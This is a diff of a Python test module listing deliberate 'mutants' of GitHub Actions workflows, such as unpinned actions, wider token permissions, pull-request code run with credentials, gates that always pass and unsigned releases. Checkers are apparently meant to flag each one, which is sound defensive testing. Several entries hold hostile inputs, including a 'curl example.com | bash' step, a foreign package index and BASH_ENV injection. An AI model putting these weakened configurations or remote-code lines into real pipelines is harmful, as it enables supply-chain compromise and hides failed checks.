@@ -2,21 +2,23 @@
 
 from typing import Final
 
-from tests.repository.workflow_rules import ACCEPT
-
 CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 PULL_REQUEST = "workflows/pull-request.yml"
 REPORT = "workflows/report.yml"
 COMMENT = "workflows/comment.yml"
 TRAIN = "workflows/train.yml"
 MAIN = "workflows/main.yml"
+NIGHTLY = "workflows/nightly.yml"
 RELEASE = "workflows/release.yml"
 ROLLBACK = "workflows/rollback.yml"
 SETUP = "actions/setup/action.yml"
 NO_PERMISSIONS = "permissions: {}\n"
 NO_CREDENTIALS = "          persist-credentials: false\n"
 WITH_CREDENTIALS = "        with:\n" + NO_CREDENTIALS
-OUR_SETUP = "        uses: $/.github/actions/setup\n"
+GATE = """grep --extended-regexp --line-regexp '((success|skipped) ?)+' <<< "$RESULTS\""""
+HEAD_SHA = "${{ github.event.workflow_run.head_sha }}"
+GIVEN = "GITHUB_TOKEN: ${{ github.token }}"
+MAY_FAIL = "    continue-on-error: true\n"
 # What is worse, in which file, and the text before and after.
 MUTANTS: Final = {
     "zizmor": [
@@ -28,8 +30,8 @@ MUTANTS: Final = {
         ("no permissions on top", TRAIN, NO_PERMISSIONS, ""),
         (
             "read-all in a job",
-            TRAIN,
-            "    permissions:\n      contents: write # push the registry branch\n",
+            MAIN,
+            "    permissions:\n      contents: read # check out\n",
             "    permissions: read-all\n",
         ),
         (
@@ -81,35 +83,29 @@ MUTANTS: Final = {
             "\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n\njobs:\n",
         ),
     ],
+    "actionlint": [
+        (
+            "a step that does not exist",
+            RELEASE,
+            "steps.image.outputs.digest",
+            "steps.imag.outputs.digest",
+        ),
+        ("a job that does not exist", MAIN, "needs: test", "needs: tests"),
+        ("an unquoted word", ROLLBACK, '--reason="$REASON"', "--reason=$REASON"),
+        ("a misspelt key", TRAIN, "    timeout-minutes: 60", "    timeout-minute: 60"),
+        (
+            "an input that no action has",
+            PULL_REQUEST,
+            "          python-version: ${{ matrix",
+            "          python: ${{ matrix",
+        ),
+    ],
     "pinned": [
         ("a pin without its version", TRAIN, CHECKOUT, CHECKOUT.partition(" ")[0]),
         ("a pin of another version", TRAIN, "# v7.0.1", "# v7.0.2"),
         ("a commit without confirmation", TRAIN, "@3d3c42e5", "@3d3c42e6"),
         ("an action without confirmation", TRAIN, "actions/checkout", "action/checkout"),
         ("an action that is not there", TRAIN, "actions/setup\n", "actions/set\n"),
-    ],
-    "only_what_is_needed": [
-        (
-            "a further scope",
-            TRAIN,
-            "      contents: write # push",
-            "      packages: write # why not\n      contents: write # push",
-        ),
-        (
-            "write where reading is enough",
-            RELEASE,
-            "contents: read # check",
-            "contents: write # check",
-        ),
-        (
-            "a job without permissions of its own",
-            TRAIN,
-            "    permissions:\n      contents: write # push the registry branch\n",
-            "",
-        ),
-    ],
-    "started_by_what_was_decided": [
-        ("training on every branch", TRAIN, "    branches: [main]\n", "    branches: ['**']\n"),
     ],
     "ends_in_time": [
         ("no timeout", TRAIN, "    timeout-minutes: 60\n", ""),
@@ -141,55 +137,7 @@ MUTANTS: Final = {
             "    timeout-minutes: 30\n    environment: model-registry\n",
         ),
     ],
-    "nothing_of_the_pull_request_runs": [
-        (
-            "the code of a pull request with a writing token",
-            COMMENT,
-            NO_CREDENTIALS,
-            NO_CREDENTIALS + "          ref: ${{ github.event.workflow_run.head_sha }}\n",
-        ),
-        (
-            "a stranger's files among the code",
-            COMMENT,
-            "path: ${{ runner.temp }}/model-report",
-            "path: .",
-        ),
-        (
-            "a comment after every event",
-            COMMENT,
-            "github.event.workflow_run.event == 'pull_request' && ",
-            "",
-        ),
-    ],
-    "nothing_kept_where_it_counts": [
-        (
-            "a cache in a release",
-            RELEASE,
-            OUR_SETUP,
-            OUR_SETUP + "        with:\n          cache: pip\n",
-        ),
-        ("a release that may use caches", RELEASE, "cache-mode: none\n", ""),
-        (
-            "a job of a release that may",
-            RELEASE,
-            "    environment: release\n",
-            "    environment: release\n    cache-mode: read\n",
-        ),
-        ("training with kept packages", TRAIN, "    cache-mode: none\n", ""),
-    ],
-    "waits_or_ends": [
-        ("a waiting run is dropped", TRAIN, "  queue: max\n", ""),
-        ("a running job is dropped", RELEASE, "progress: false", "progress: true"),
-        ("two trainings at once", TRAIN, "  group: train\n", "  group: train-${{ github.sha }}\n"),
-        (
-            "trainings without order",
-            TRAIN,
-            "concurrency:\n  group: train\n  cancel-in-progress: false\n  queue: max\n",
-            "",
-        ),
-        ("pull requests that pile up", PULL_REQUEST, "progress: true", "progress: false"),
-    ],
-    "one_line_to_type": [
+    "names_what_is_there": [
         (
             "two lines",
             PULL_REQUEST,
@@ -204,12 +152,6 @@ MUTANTS: Final = {
             "pipeline.experiment_traking",
         ),
         ("a script that is not there", MAIN, "run: .ci/tools", "run: .ci/tool"),
-        (
-            "a script from elsewhere",
-            MAIN,
-            "run: .ci/tools",
-            "run: curl https://example.com/install | bash",
-        ),
     ],
     "every_check_is_required": [
         (
@@ -219,80 +161,102 @@ MUTANTS: Final = {
             "integration, workflows]",
         ),
         (
-            "a report that may fail",
-            REPORT,
-            "    name: report\n",
-            "    name: report\n    continue-on-error: true\n",
-        ),
-        (
-            "a skipped check that passes",
+            "a skipped gate, which counts as passed",
             PULL_REQUEST,
             "    if: always() # a skipped check would count as passed\n",
             "",
         ),
-        (
-            "a gate that always opens",
-            PULL_REQUEST,
-            f"run: {ACCEPT}",
-            "run: grep --version",
-        ),
-        (
-            "a failure that passes",
-            PULL_REQUEST,
-            "    name: image\n",
-            "    name: image\n    continue-on-error: true\n",
-        ),
-        (
-            "a check that may be skipped",
-            PULL_REQUEST,
-            "    name: check\n",
-            "    name: check\n    if: github.actor != 'dependabot[bot]'\n",
-        ),
-        (
-            "a check that is skipped for another reason than the change",
-            PULL_REQUEST,
-            "    if: needs.affected.outputs.candidate == 'true'\n",
-            "    if: needs.affected.outputs.candidate == 'true' && github.actor != 'ann'\n",
-        ),
-        (
-            "a check that is skipped when another one fails",
-            PULL_REQUEST,
-            "  check:\n    name: check\n",
-            "  check:\n    name: check\n    needs: fast\n",
-        ),
     ],
-    "no_secret_for_every_job": [
+    "reviewed": [
+        # What a pull request brought is run.
+        ("its head", COMMENT, NO_CREDENTIALS, NO_CREDENTIALS + f"          ref: {HEAD_SHA}\n"),
+        ("its checkout", COMMENT, "run: .venv", "run: gh pr checkout 7 && .venv"),
+        ("its files among ours", COMMENT, "path: ${{ runner.temp }}/model-report", "path: ."),
+        ("another artifact", COMMENT, "name: model-report", "name: code"),
+        ("a head that it names", COMMENT, HEAD_SHA, "$(cat model-report/sha)"),
+        ("more than pull requests", COMMENT, "workflow_run.event == 'pull_request' && ", ""),
+        ("a request of a stranger", TRAIN, "branches: [main]", "branches: ['**']"),
+        # Other code is run.
+        ("a script of the net", MAIN, "run: .ci/tools", "run: .ci/tools; curl example.com | bash"),
         (
-            "a secret for every job",
-            RELEASE,
+            "a line of Python",
+            TRAIN,
+            "-m pipeline.feature_eng",
+            "-c 'import x' -m pipeline.feature_eng",
+        ),
+        ("a container", RELEASE, "run: docker login", "run: docker run x && docker login"),
+        ("a package without a pin", TRAIN, "run: .venv", "run: pip install x && .venv"),
+        (
+            "an index of others",
+            SETUP,
+            "REQUIREMENTS: ${{",
+            "PIP_INDEX_URL: https://x\n        R: ${{",
+        ),
+        ("modules of others", TRAIN, GIVEN, "PYTHONPATH: /tmp\n          " + GIVEN),
+        ("a file before each script", TRAIN, GIVEN, "BASH_ENV: /tmp/x\n          " + GIVEN),
+        ("another lock", RELEASE, "requirements: requirements.txt", "requirements: x.txt"),
+        # Green without work.
+        ("make that only prints", MAIN, "run: make test", "run: make -n test"),
+        ("make that is told so", MAIN, "\njobs:\n", "\nenv:\n  MAKEFLAGS: -n\njobs:\n"),
+        (
+            "tests that are left out",
+            NIGHTLY,
             "\njobs:\n",
-            "  PASSWORD: ${{ secrets.REGISTRY_TOKEN }}\njobs:\n",
+            "\nenv:\n  PYTEST_ADDOPTS: -k x\njobs:\n",
         ),
-    ],
-    "works_on_a_fork": [
-        ("a registry that a fork does not have", RELEASE, " || 'ghcr.io' }}", " }}"),
+        ("a machine that lacks all", MAIN, "\njobs:\n", '\nenv:\n  CI: ""\njobs:\n'),
+        ("a failure that passes", NIGHTLY, "run: make faults", "run: make faults || true"),
+        ("a job that may fail", PULL_REQUEST, "    name: image\n", "    name: image\n" + MAY_FAIL),
+        ("an image as it is", PULL_REQUEST, "image verify heart-disease:candidate", "image --help"),
+        ("a gate that always opens", PULL_REQUEST, f"run: {GATE}", "run: grep --version"),
+        ("a job for some", PULL_REQUEST, "    name: check\n", "    name: check\n    if: false\n"),
+        # Gate and order.
+        ("no promotion", TRAIN, GIVEN, "PIPELINE__PROMOTION__MODE: disabled\n          " + GIVEN),
+        ("no gate", TRAIN, GIVEN, "PIPELINE__PROMOTION__FLOORS: '{}'\n          " + GIVEN),
+        ("a push without a build", RELEASE, "    needs: build\n", ""),
         (
-            "the registry of one owner",
+            "a release in any case",
             RELEASE,
-            'run: docker login "$REGISTRY"',
-            "run: docker login ghcr.io",
+            "!cancelled() && needs.push.result",
+            "always() || needs.x",
         ),
-    ],
-    "actionlint": [
+        ("a rollback by force", ROLLBACK, "rollback --reason", "rollback --force --reason"),
+        ("a rollback of any branch", ROLLBACK, "    if: github.ref == 'refs/heads/main'\n", ""),
+        ("two trainings at once", TRAIN, "  group: train\n", "  group: train-${{ github.sha }}\n"),
+        ("a waiting run is dropped", TRAIN, "  queue: max\n", ""),
+        ("a running job is dropped", RELEASE, "progress: false", "progress: true"),
+        ("training twice", TRAIN, " --once-per-commit", ""),
+        # What is shipped.
         (
-            "a step that does not exist",
+            "nothing signed, all green",
             RELEASE,
-            "steps.image.outputs.digest",
-            "steps.imag.outputs.digest",
+            "    name: attest\n",
+            "    name: attest\n" + MAY_FAIL,
         ),
-        ("a job that does not exist", MAIN, "needs: test", "needs: tests"),
-        ("an unquoted word", ROLLBACK, '--reason="$REASON"', "--reason=$REASON"),
-        ("a misspelt key", TRAIN, "    timeout-minutes: 60", "    timeout-minute: 60"),
         (
-            "an input that no action has",
-            PULL_REQUEST,
-            "          python-version: ${{ matrix",
-            "          python: ${{ matrix",
+            "another subject",
+            RELEASE,
+            "digest: ${{ needs.push.outputs.digest }}",
+            "digest: sha256:0",
         ),
+        ("no vulnerability", RELEASE, "release build\n", "release build --allow-unscanned\n"),
+        ("one that is accepted", RELEASE, "release build\n", "release build --accept CVE-2026-1\n"),
+        ("another database of them", RELEASE, "OSV_URL: ${{ vars.OSV_URL }}", "OSV_URL: https://x"),
+        ("another base", RELEASE, "BASE_IMAGE: ${{ vars.BASE_IMAGE }}", "BASE_IMAGE: x"),
+        ("a tag without main", RELEASE, "          fetch-depth: 0\n", ""),
+        ("a registry of anybody", RELEASE, "!github.event.repository.private }}", "false }}"),
+        (
+            "a cache",
+            RELEASE,
+            "          requirements:",
+            "          cache: pip\n          requirements:",
+        ),
+        ("caches of others", RELEASE, "cache-mode: none\n", ""),
+        # What may be written, and with whose secrets.
+        ("a further scope", TRAIN, "contents: write", "packages: write # x\n      contents: write"),
+        ("writing for reading", RELEASE, "contents: read # check", "contents: write # check"),
+        ("a secret for all", RELEASE, "\njobs:\n", "  X: ${{ secrets.X }}\njobs:\n"),
+        ("another place", RELEASE, "    environment: release\n", "    environment: production\n"),
+        ("the registry of one owner", RELEASE, 'login "$REGISTRY"', "login registry.example"),
     ],
 }
